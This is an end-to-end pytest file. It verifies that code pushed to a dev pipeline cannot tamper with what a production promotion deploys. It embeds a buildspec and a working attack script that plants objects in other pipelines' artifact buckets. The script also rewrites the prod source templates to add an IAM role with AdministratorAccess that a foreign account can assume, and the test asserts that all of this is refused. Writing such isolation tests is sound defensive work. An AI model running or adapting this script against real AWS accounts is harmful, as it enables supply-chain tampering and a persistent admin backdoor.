"""Code pushed to `dev` goes for what another group's promotion is about to deploy, on a kept rehearsal."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.promotions import Promotions

if TYPE_CHECKING:
    from tests.e2e.by_hand import Kept

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("kept")]

ROOT = Path(__file__).parents[2]
MANIFEST = ROOT / "manifests" / "local" / "deployment.yaml"
TOOLING, PROD_ACCOUNT = "123456789010", "123456789017"
DEV, PROD = "experimenation-deployment-group", "prod-deployment-group"
BACKDOOR = "backdoor"

BUILDSPEC = """
version: 0.2
env:
  shell: bash
  exported-variables: [DONE, REFUSED]
phases:
  build:
    commands:
      - python3 attack.py
      - set -a
      - . ./attack.env
      - set +a
"""

# runs with the rights of the training build; `targets.json` names what is easily guessed
ATTACK = """
import json, subprocess, zipfile

targets = json.load(open("targets.json"))
done, refused = [], []

def call(what, *arguments):
    ended = subprocess.run(["aws", "s3api", *arguments], capture_output=True, text=True)
    if ended.returncode == 0:
        done.append(what)
    elif "AccessDenied" in ended.stderr or "403" in ended.stderr:
        refused.append(what)
    else:
        done.append(what + ":" + "".join(each for each in ended.stderr if each.isalnum()))
    return ended.returncode == 0

open("planted", "w").write("planted")
for bucket, folder in targets["folders"]:
    call("list:" + bucket, "list-objects-v2", "--bucket", bucket)
    call("plant:" + bucket, "put-object", "--bucket", bucket, "--key", folder + "/planted", "--body", "planted")
bucket, key = targets["source"]
body = "planted"
if call("read:" + bucket, "get-object", "--bucket", bucket, "--key", key, "source.zip"):
    # what is waiting for its approval, with a role of a stranger's in every template
    trust = {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sts:AssumeRole"}
    role = {
        "RoleName": targets["backdoor"],
        "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": [trust]},
        "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
    }
    body = "changed.zip"
    with zipfile.ZipFile("source.zip") as before, zipfile.ZipFile(body, "w") as after:
        for name in before.namelist():
            text = before.read(name)
            if name.startswith("templates/"):
                template = json.loads(text)
                template["Resources"]["Backdoor"] = {"Type": "AWS::IAM::Role", "Properties": role}
                text = json.dumps(template).encode()
            after.writestr(name, text)
call("overwrite:" + bucket, "put-object", "--bucket", bucket, "--key", key, "--body", body)
open("attack.env", "w").write(f"DONE='{' '.join(done)}'\\nREFUSED={len(refused)}\\n")
"""


def _source_of(kept: Kept, pipeline: str, execution: str) -> tuple[str, str]:
    """Bucket and key of what the source action of an execution handed on."""
    details = kept.client("codepipeline", TOOLING).list_action_executions(
        pipelineName=pipeline, filter={"pipelineExecutionId": execution}
    )["actionExecutionDetails"]
    source = next(each for each in details if each["stageName"] == "Source")
    where = source["output"]["outputArtifacts"][0]["s3location"]
    return where["bucket"], where["key"]


def _in_prod(kept: Kept, pipeline: str, execution: str) -> tuple[dict[str, str], dict[str, str]]:
    """What the approval before prod and the action after it were given, in the order in which they ran."""
    details = kept.client("codepipeline", TOOLING).list_action_executions(
        pipelineName=pipeline, filter={"pipelineExecutionId": execution}
    )["actionExecutionDetails"]
    ran = {each["actionName"]: each for each in details if each["stageName"] == "Deploy-prod-env"}
    order = sorted(ran, key=lambda name: ran[name]["startTime"])
    assert order == ["CreateChangeSet", "Describe", "Approve", "ExecuteChangeSet"]
    asked, executed = (ran[name]["input"]["resolvedConfiguration"] for name in order[2:])
    return asked, executed


def _folders(kept: Kept) -> list[tuple[str, str]]:
    """The artifact bucket of every pipeline, and the folder of sources in it."""
    client = kept.client("codepipeline", TOOLING)
    names = [each["name"] for each in client.list_pipelines()["pipelines"]]
    return [(client.get_pipeline(name=each)["pipeline"]["artifactStore"]["location"], f"{each[:20]}/Source")
            for each in names]  # fmt: skip


def _attack(kept: Kept, clone: Path, targets: dict[str, Any]) -> dict[str, str]:
    """Push the attack to `dev`; what its build says about each attempt."""
    training = kept.pipeline(DEV)
    stage = kept.client("codepipeline", TOOLING).get_pipeline(name=training)["pipeline"]["stages"][0]
    kept.clone(stage["actions"][0]["configuration"]["RepositoryName"], clone)
    kept.run(TOOLING, "git", "checkout", "--quiet", "-B", "attack", "origin/dev", cwd=clone)
    (clone / "buildspec.yml").write_text(BUILDSPEC, encoding="utf-8")
    (clone / "attack.py").write_text(ATTACK, encoding="utf-8")
    (clone / "targets.json").write_text(json.dumps(targets), encoding="utf-8")
    ended = kept.wait_for(training, kept.push(clone, "dev", "Attack"))
    details = kept.client("codepipeline", TOOLING).list_action_executions(
        pipelineName=training, filter={"pipelineExecutionId": ended["pipelineExecutionId"]}
    )["actionExecutionDetails"]
    assert ended["status"] == "Succeeded", details
    build = next(each for each in details if each["stageName"] == "Build")
    variables: dict[str, str] = build["output"]["outputVariables"]
    _put_back(kept, clone)
    return variables


def _put_back(kept: Kept, clone: Path) -> None:
    """Leave the branch as it was: other tests go on with it."""
    kept.run(TOOLING, "git", "rm", "--quiet", "attack.py", "targets.json", cwd=clone)
    kept.run(TOOLING, "git", "checkout", "--quiet", "HEAD~1", "--", "buildspec.yml", cwd=clone)
    kept.push(clone, "dev", "Put back what the attack changed")


def test_code_pushed_to_dev_changes_nothing_that_prod_deploys(kept: Kept, tmp_path: Path) -> None:
    """The attempts are refused one by one, and exactly the change set that was approved is executed."""
    prod = Promotions(kept, PROD, TOOLING, MANIFEST)
    version, since = prod.register(), len(prod.executions())
    prod.approve(version)
    waiting = prod.waiting(version)
    cloudformation, place = kept.client("cloudformation", PROD_ACCOUNT), prod.places[-1]
    named = f"promotion-{waiting['execution']}"
    shown = cloudformation.describe_change_set(StackName=place["stack"], ChangeSetName=named)
    assert (shown["Status"], shown["ExecutionStatus"]) == ("CREATE_COMPLETE", "AVAILABLE")
    given = {each["ParameterKey"]: each["ParameterValue"] for each in shown["Parameters"]}
    assert given["Version"] == str(version)
    bucket, key = _source_of(kept, prod.pipeline, waiting["execution"])
    s3 = kept.client("s3", TOOLING)
    before = s3.head_object(Bucket=bucket, Key=key)["VersionId"]

    folders = _folders(kept)
    said = _attack(kept, tmp_path / "clone", {"folders": folders, "source": [bucket, key], "backdoor": BACKDOOR})

    prod.let_go_on(waiting)
    prod.wait_for(version, "Succeeded", since=since)
    assert BACKDOOR not in {each["RoleName"] for each in kept.client("iam", PROD_ACCOUNT).list_roles()["Roles"]}
    asked, executed = _in_prod(kept, prod.pipeline, waiting["execution"])
    assert f"change set {named} of stack {place['stack']}: replaces Serving" in asked["CustomData"]
    assert (executed["ActionMode"], executed["ChangeSetName"]) == ("CHANGE_SET_EXECUTE", named)
    assert said["DONE"] == ""
    assert said["REFUSED"] == str(2 * len(folders) + 2)
    assert len(folders) == len({bucket for bucket, _ in folders}) == 5
    assert s3.head_object(Bucket=bucket, Key=key)["VersionId"] == before
    assert prod.serves() == [version] * len(prod.places)
